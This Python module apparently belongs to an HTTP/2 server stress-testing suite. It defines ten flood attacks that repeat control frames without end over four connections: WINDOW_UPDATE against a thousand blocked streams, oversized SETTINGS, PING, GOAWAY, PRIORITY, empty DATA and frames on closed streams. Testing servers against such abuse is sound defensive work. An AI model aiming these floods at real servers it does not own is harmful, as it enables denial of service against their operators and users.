"""HTTP/2 frames that carry no request, as many as the connection takes."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import Final

from bench import wire
from bench.hostile import frames
from bench.hostile.attack import ABUSE, Attack, Target, Traffic
from bench.hostile.flood import Flood, Inbox, Plan, Step

_CONNECTIONS: Final = 4
_BLOCKED: Final = 1_000


def _send(opening: bytes, piece: bytes) -> Callable[[Target, float], Traffic]:
    """Send a piece again and again after an opening."""

    def script(_number: int, _inbox: Inbox) -> Iterator[Step]:
        yield opening
        yield from frames.for_ever(piece)

    def send(target: Target, seconds: float) -> Traffic:
        return Flood(Plan((target.plain,), script, _CONNECTIONS)).run(seconds)

    return send


_refused = frames.block()
_BLOCKED_STREAMS: Final = frames.NO_WINDOW + frames.streams(1, _BLOCKED, _refused)
"""A thousand refusals that wait for a window."""
_ONE_OPEN: Final = frames.PREFACE + frames.headers(1, _refused, frames.OPEN)
_ONE_CLOSED: Final = frames.PREFACE + frames.headers(1, _refused)
_LARGE_SETTINGS: Final = wire.frame(
    wire.SETTINGS,
    0,
    0,
    b"".join(
        wire.SETTING_INITIAL_WINDOW_SIZE.to_bytes(2, "big") + size.to_bytes(4, "big")
        for size in [0, 1] * (wire.MAX_FRAME_BYTES // 12)
    ),
)
_PRIORITY: Final = wire.frame(frames.PRIORITY, 0, 1, b"\0\0\0\3\x10")
_ON_CLOSED: Final = (
    wire.window_update(1, 1)
    + wire.frame(wire.RST_STREAM, 0, 1, b"\0\0\0\x08")
    + wire.frame(wire.DATA, 0, 1, b"")
)

ATTACKS: Final = tuple(
    Attack(name, title, _send(opening, piece), (ABUSE,))
    for name, title, opening, piece in (
        (
            "window-updates",
            "WINDOW_UPDATE with 1,000 blocked streams",
            _BLOCKED_STREAMS,
            wire.window_update(0, 1),
        ),
        (
            "stream-window-updates",
            "WINDOW_UPDATE of 1,000 blocked streams in turn",
            _BLOCKED_STREAMS,
            b"".join(wire.window_update(2 * each + 1, 1) for each in range(_BLOCKED)),
        ),
        ("settings-empty", "empty SETTINGS", frames.PREFACE, wire.settings({})),
        (
            "settings-16k",
            "SETTINGS of 16 kB with 1,000 blocked streams",
            _BLOCKED_STREAMS,
            _LARGE_SETTINGS,
        ),
        ("ping", "PING", frames.PREFACE, wire.frame(wire.PING, 0, 0, bytes(8))),
        ("ping-ack", "PING ACK", frames.PREFACE, wire.frame(wire.PING, wire.FLAG_ACK, 0, bytes(8))),
        ("goaway", "GOAWAY", frames.PREFACE, wire.frame(wire.GOAWAY, 0, 0, bytes(8))),
        ("priority", "PRIORITY", frames.PREFACE, _PRIORITY),
        ("data-empty", "empty DATA", _ONE_OPEN, wire.frame(wire.DATA, 0, 1, b"")),
        ("closed-streams", "frames on a closed stream", _ONE_CLOSED, _ON_CLOSED),
    )
)
